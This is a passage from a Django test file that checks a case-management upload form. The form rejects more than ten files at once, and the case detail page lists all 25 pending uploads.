    eleven = client.post(url, {"documents": [upload(f"{n}.pdf", PDF) for n in range(11)], "token": "f-1"})
    many = client.post(url, {"documents": [upload(f"{n}.pdf", PDF) for n in range(21)], "token": "f-2"})

    assert eleven.status_code == 400
    assert "At most 10 files at once." in eleven.content.decode()
    # Django stops reading the request at the cap (DATA_UPLOAD_MAX_NUMBER_FILES): no page, no files.
    assert many.status_code == 400
    assert "At most 10 files" not in many.content.decode()
    assert not OutboxAction.objects.exists()


def test_every_upload_still_on_its_way_is_listed_even_beyond_the_newest_twenty_actions(
    client, team_agent, active_case
):
    for n in range(25):
        case_file_upload(case=active_case, actor=team_agent, file=ContentFile(PDF, name=f"scan-{n}.pdf"))
    client.force_login(team_agent)

    html = client.get(reverse("cases:detail", args=[active_case.pk])).content.decode()

    assert html.count('data-upload-state="pending"') == 25
